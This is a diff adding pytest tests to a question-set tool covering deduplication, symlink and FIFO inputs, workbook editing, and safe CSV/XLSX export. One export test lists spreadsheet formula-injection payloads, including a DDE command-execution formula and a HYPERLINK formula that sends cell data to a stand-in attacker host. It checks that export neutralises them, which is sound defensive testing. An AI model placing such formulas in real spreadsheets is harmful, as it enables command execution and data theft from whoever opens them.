@@ -1,10 +1,13 @@
 """Question sets: every bad-input case named, importers that never crash, the CLI, and the
 offline generator measured against the reference bot."""
 
+import csv
 import json
+import os
 import shutil
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -183,6 +186,9 @@ def test_dedupe_finds_a_reworded_copy(dataset, capsys):
              "--answer", "5%。") == 0
     assert q(dataset, "dedupe", "--threshold", "0.97") == 0
     assert "zh-001 ~ dup-1" in capsys.readouterr().out
+    assert q(dataset, "dedupe", "--threshold", "0.97", "--apply") == 0
+    ids = [x.question_id for x in load_question_file(dataset / "datasets" / "policy_zh" / "questions" / "questions.jsonl")]
+    assert "dup-1" not in ids and "zh-001" in ids
 
 
 def test_offline_generator_makes_answerable_retrievable_questions(embedder):
@@ -237,3 +243,122 @@ def test_question_set_data_version_follows_content_and_metadata_names_origins(tm
     generated["ground_truth_answer"] = "一次性创业补贴1万元。"
     (folder / "generated.jsonl").write_text(json.dumps(generated, ensure_ascii=False) + "\n", encoding="utf-8")
     assert materialize()[0] != first
+
+
+def test_unreadable_entries_in_questions_are_named_and_excel_lock_files_ignored(dataset, tmp_path, capsys):
+    folder = dataset / "datasets" / "policy_zh" / "questions"
+    (folder / "~$questions.xlsx").write_bytes(b"\x0bExcel owner file\x00")  # there while the workbook is open
+    assert q(dataset, "validate") == 0
+    (folder / "extra.csv").mkdir()
+    (folder / "gone.jsonl").symlink_to(folder / "missing.jsonl")
+    (folder / "loop_a.jsonl").symlink_to(folder / "loop_b.jsonl")
+    (folder / "loop_b.jsonl").symlink_to(folder / "loop_a.jsonl")
+    (tmp_path / "outside.csv").write_text("id,question,answer\nx1,Secret?,Yes.\n", encoding="utf-8")
+    (folder / "leak.csv").symlink_to(tmp_path / "outside.csv")
+    os.mkfifo(folder / "pipe.jsonl")
+    capsys.readouterr()
+    assert q(dataset, "validate") == 1
+    err = capsys.readouterr().err
+    for name, why in [("extra.csv", "is a directory"), ("gone.jsonl", "cannot be resolved"),
+                      ("loop_a.jsonl", "cannot be resolved"), ("leak.csv", "outside the dataset folder"),
+                      ("pipe.jsonl", "is a FIFO")]:
+        assert f"{folder / name}: field 'file': " in err and why in err, name
+    assert "~$questions.xlsx" not in err
+
+
+def test_a_run_names_unreadable_inputs_and_records_skipped_documents(project, capsys):
+    import dagster as dg
+
+    dataset = project / "data" / "datasets" / "product_en"
+    (project / "secret.md").write_text("# Secret\n\nroot:x:0:0\n", encoding="utf-8")
+    (dataset / "docs" / "leak.md").symlink_to(project / "secret.md")
+    (dataset / "questions" / "extra.csv").mkdir()
+    assert main(["run", "--project-dir", str(project), "--dataset", "product_en", "--bot", "refbot@v1"]) == 1
+    errors = capsys.readouterr().err
+    assert f"{dataset / 'questions' / 'extra.csv'}: field 'file': is a directory, not a regular file" in errors
+    assert "DagsterExecutionStepExecutionError" not in errors
+    with dg.DagsterInstance.get() as instance:
+        corpus = instance.get_latest_materialization_event(dg.AssetKey("corpus")).asset_materialization
+    assert [s["file"] for s in corpus.metadata["skipped"].data] == [str(dataset / "docs" / "leak.md")]
+    chunks = pd.read_parquet(project / ".ragpipe" / "warehouse" / "corpus" / "product_en.parquet")
+    assert "leak" not in set(chunks["doc_id"])
+
+
+def _workbook_with_more_than_questions(path: Path) -> None:
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "questions"
+    sheet.append(["id", "question", "answer", "reviewer", "notes"])
+    sheet.append(["x1", "深圳创业补贴多少？", "1万元。", "王芳", "checked"])
+    sheet.append(["x2", "Who pays?", "The employer.", "Li", "=LEN(B3)"])
+    book.create_sheet("changelog").append(["2026-01-05", "first draft"])
+    book.save(path)
+
+
+def test_edit_and_delete_keep_other_sheets_and_unknown_columns_of_a_workbook(dataset):
+    import openpyxl
+
+    path = dataset / "datasets" / "policy_zh" / "questions" / "review.xlsx"
+    _workbook_with_more_than_questions(path)
+    assert q(dataset, "edit", "x1", "--answer", "一次性补贴1万元。", "--type", "factual") == 0
+    assert q(dataset, "delete", "x2") == 0
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["questions", "changelog"]
+    assert [list(r) for r in book["questions"].iter_rows(values_only=True)] == [
+        ["id", "question", "answer", "reviewer", "notes", "question_type"],
+        ["x1", "深圳创业补贴多少？", "一次性补贴1万元。", "王芳", "checked", "FACTUAL"]]
+    assert list(book["changelog"].iter_rows(values_only=True)) == [("2026-01-05", "first draft")]
+    assert q(dataset, "add", "--id", "x3", "--question", "何时申报？", "--answer", "每年5月。", "--file", "review.xlsx") == 0
+    assert openpyxl.load_workbook(path).sheetnames == ["questions", "changelog"]
+    assert [x.question_id for x in load_question_file(path)] == ["x1", "x3"]
+
+
+@pytest.mark.parametrize("name, text", [
+    ("review.csv", "编号,问题,标准答案,审核人\nx1,深圳创业补贴多少？,1万元。,王芳\nx2,Who pays?,The employer.,Li\n"),
+    ("review.jsonl", '{"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"}\n'
+                     '{"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}\n'),
+    ("review.json", json.dumps({"version": 3, "questions": [
+        {"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"},
+        {"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}]}, ensure_ascii=False)),
+])
+def test_edit_and_delete_keep_the_columns_and_keys_of_text_files(dataset, name, text):
+    path = dataset / "datasets" / "policy_zh" / "questions" / name
+    path.write_text(text, encoding="utf-8")
+    assert q(dataset, "edit", "x1", "--answer", "一次性补贴1万元。") == 0
+    assert q(dataset, "delete", "x2") == 0
+    assert q(dataset, "add", "--id", "x3", "--question", "何时申报？", "--answer", "每年5月。", "--file", name) == 0
+    written = path.read_text(encoding="utf-8")
+    assert "王芳" in written and "The employer." not in written
+    if name.endswith(".csv"):
+        assert written.startswith("编号,问题,标准答案,审核人,")
+    else:
+        records = ([json.loads(line) for line in written.splitlines()] if name.endswith(".jsonl")
+                   else json.loads(written)["questions"])
+        assert records[0] == {"id": "x1", "question": "深圳创业补贴多少？", "answer": "一次性补贴1万元。", "reviewer": "王芳"}
+        assert name.endswith(".jsonl") or json.loads(written)["version"] == 3
+    assert [(x.question_id, x.ground_truth_answer) for x in load_question_file(path)] == [
+        ("x1", "一次性补贴1万元。"), ("x3", "每年5月。")]
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def test_export_writes_no_live_formula_and_imports_the_text_back(dataset, tmp_path):
+    import openpyxl
+
+    folder = dataset / "datasets" / "policy_zh" / "questions"
+    (folder / "formulas.jsonl").write_text("".join(
+        json.dumps({"id": f"f{i}", "question": text, "ground_truth": text}, ensure_ascii=False) + "\n"
+        for i, text in enumerate(FORMULAS)), encoding="utf-8")
+    assert q(dataset, "export", "--output", str(tmp_path / "all.csv")) == 0
+    with open(tmp_path / "all.csv", encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert q(dataset, "export", "--output", str(tmp_path / "all.xlsx")) == 0
+    sheet = openpyxl.load_workbook(tmp_path / "all.xlsx").active
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    for exported in (tmp_path / "all.csv", tmp_path / "all.xlsx"):
+        back = {x.question_id: x.question for x in load_question_file(exported)}
+        assert [back[f"f{i}"] for i in range(len(FORMULAS))] == FORMULAS
